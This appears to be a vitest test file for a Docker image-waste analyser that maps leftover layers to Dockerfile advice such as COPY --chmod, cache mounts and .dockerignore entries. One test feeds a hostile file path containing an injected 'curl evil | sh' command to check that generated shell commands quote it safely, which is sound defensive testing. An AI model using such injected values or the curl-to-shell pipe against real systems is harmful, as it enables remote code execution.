/** For each kind of waste the advice that fits it, drawn from what real Dockerfiles leave in an image. */
import { expect, test } from 'vitest';
import type { DeadReason, ImageReport } from '../../engine/api.ts';
import { adviceFor, stepsOf } from './advice.ts';

interface Case {
  written: string;
  hidden: string;
  reason: DeadReason;
  paths?: string[];
  secrets?: string[];
  fromBase?: boolean;
}

function adviceOf({ written, hidden, reason, paths = ['/srv/file'], secrets = [], fromBase = false }: Case) {
  const body = (path: string) => ({ path, bytes: 10, reason, layer: 0, deadLayer: 1 });
  const image = {
    layers: [
      { index: 0, createdBy: written },
      { index: 1, createdBy: hidden },
    ],
    ledger: {
      steps: [{ layer: 0, deadLayer: 1, reason, bytes: 10, files: paths.length }],
      top: paths.map(body),
    },
    findings: { secrets: secrets.map((path) => ({ ...body(path), kind: 'credentials' })) },
  } as unknown as ImageReport;
  const [step] = stepsOf(image, (layer) => fromBase && layer === 0);
  if (!step) throw new Error('no step');
  return adviceFor(step);
}

const apt = 'RUN /bin/sh -c apt-get update && apt-get install -y gcc # buildkit';

test('chmod and chown of what was copied go into the COPY', () => {
  const step = { written: 'COPY package /app # buildkit', reason: 'rewritten-identical' as const };
  expect(adviceOf({ ...step, hidden: 'RUN /bin/sh -c chmod -R 755 /app # buildkit' })).toEqual({
    kind: 'permissions',
    code: 'COPY --chmod=755 package /app',
  });
  expect(adviceOf({ ...step, hidden: '/bin/sh -c chown -R app:app /app && chmod u+x /app/run' }).code).toBe(
    'COPY --chown=app:app --chmod=u+x package /app',
  );
  const hash = 'a'.repeat(64);
  const classic = { ...step, written: `/bin/sh -c #(nop) COPY dir:${hash} in /app ` };
  expect(adviceOf({ ...classic, hidden: '/bin/sh -c chown 1000 /app' }).code).toBe('COPY --chown=1000 … /app');
});

test('chmod of what a RUN wrote goes into that RUN', () => {
  expect(adviceOf({ written: apt, hidden: 'RUN chmod 4755 /usr/bin/x', reason: 'rewritten-identical' })).toEqual({
    kind: 'permissions',
    code: 'RUN … && chmod 4755 …',
  });
});

test('the same content copied once more', () => {
  expect(adviceOf({ written: 'COPY . /app', hidden: 'COPY . /app', reason: 'rewritten-identical' }).kind).toBe(
    'copiedAgain',
  );
});

test('caches of package managers, by where they are', () => {
  const step = { written: apt, hidden: 'RUN rm -rf /var/lib/apt/lists/*', reason: 'deleted-file' as const };
  const lists = adviceOf({ ...step, paths: ['/var/lib/apt/lists/deb_main_Packages'] });
  expect(lists.kind).toBe('packageCache');
  expect(lists.code).toContain('rm -rf /var/lib/apt/lists/*');
  expect(adviceOf({ ...step, paths: ['/root/.cache/pip/http/x'] }).code).toContain('--no-cache-dir');
  expect(adviceOf({ ...step, paths: ['/root/.npm/_cacache/x'] }).code).toContain('--mount=type=cache');
});

test.each([
  'RUN apt-get purge -y gcc',
  'RUN apt-get -y autoremove',
  'RUN apk del .build',
  'RUN apk --no-cache del x',
  'RUN dnf -y remove x',
])('build tools that %s takes away belong into a stage of their own', (hidden) => {
  expect(adviceOf({ written: apt, hidden, reason: 'deleted-file', paths: ['/usr/bin/cc1'] }).kind).toBe('buildTools');
});

test('an archive that was unpacked and deleted', () => {
  const step = { hidden: 'RUN tar xf /tmp/jdk.tar.gz && rm /tmp/jdk.tar.gz', reason: 'deleted-file' as const };
  const copied = adviceOf({ ...step, written: 'COPY jdk.tar.gz /tmp/', paths: ['/tmp/jdk.tar.gz'] });
  expect(copied).toEqual({
    kind: 'archive',
    code: 'RUN --mount=type=bind,source=jdk.tar.gz,target=/tmp/jdk.tar.gz …',
  });
  expect(adviceOf({ ...step, written: 'RUN curl -O x', paths: ['/tmp/jdk.tar.gz'] }).code).toContain('curl');
});

test('a secret comes before everything else', () => {
  const step = { written: 'COPY .npmrc /root/', hidden: 'RUN rm /root/.npmrc', reason: 'deleted-file' as const };
  expect(adviceOf({ ...step, secrets: ['/root/.npmrc'] })).toEqual({
    kind: 'secret',
    code: 'RUN --mount=type=secret,id=token …',
  });
});

test('rewritten files: the package database, the base, a second COPY, anything else', () => {
  const step = { written: apt, hidden: 'RUN apt-get install -y make', reason: 'rewritten-different' as const };
  expect(adviceOf({ ...step, paths: ['/var/lib/dpkg/status'] }).kind).toBe('packageDatabase');
  expect(adviceOf({ ...step, paths: ['/usr/lib/libc.so'], fromBase: true }).kind).toBe('baseFiles');
  expect(adviceOf({ ...step, hidden: 'COPY b /srv' }).kind).toBe('copiedThenChanged');
  expect(adviceOf({ ...step, hidden: 'RUN sed -i s/a/b/ /srv/file' }).kind).toBe('rewritten');
});

test('deleted files: copied ones are not to be copied, made ones are deleted where they are made', () => {
  const reason = 'deleted-dir' as const;
  expect(
    adviceOf({
      written: 'COPY . /app',
      hidden: 'RUN rm -r /app/docs',
      reason,
      paths: ['/app/docs/a.md', '/app/docs/b/c.md'],
    }),
  ).toEqual({
    kind: 'copiedThenDeleted',
    code: '# .dockerignore\ndocs',
  });
  expect(adviceOf({ written: 'RUN make', hidden: 'RUN rm -r /src', reason, paths: ['/src/big.o'] })).toEqual({
    kind: 'deletedLater',
    code: 'RUN … && rm -rf /src',
  });
});

test('a hostile name is quoted where it becomes part of a command', () => {
  const step = { written: 'RUN make', hidden: 'RUN rm x', reason: 'deleted-file' as const };
  expect(adviceOf({ ...step, paths: ["/x'; curl evil | sh; '"] }).code).toBe(
    "RUN … && rm -rf '/x'\\''; curl evil | sh; '\\'''",
  );
});

test('a path twice in one layer, and what becomes something else', () => {
  expect(adviceOf({ written: '', hidden: '', reason: 'duplicate-entry' }).kind).toBe('twice');
  expect(adviceOf({ written: '', hidden: '', reason: 'type-replaced' }).kind).toBe('replaced');
});

test('of a step only its own files are named, each once, the largest first', () => {
  const body = (path: string, bytes: number, deadLayer = 1) => ({
    path,
    bytes,
    reason: 'deleted-file' as const,
    layer: 0,
    deadLayer,
  });
  const image = {
    layers: [
      { index: 0, dead: { own: { top: [body('/small', 1), body('/other', 9, 2)] }, caused: { top: [] } } },
      { index: 1, dead: { own: { top: [] }, caused: { top: [body('/large', 5)] } } },
    ],
    ledger: {
      steps: [{ layer: 0, deadLayer: 1, reason: 'deleted-file', bytes: 6, files: 2 }],
      top: [body('/other', 9, 2), body('/large', 5)],
    },
  } as unknown as ImageReport;
  expect(stepsOf(image, () => false)[0]?.bodies.map(({ path }) => path)).toEqual(['/large', '/small']);
});
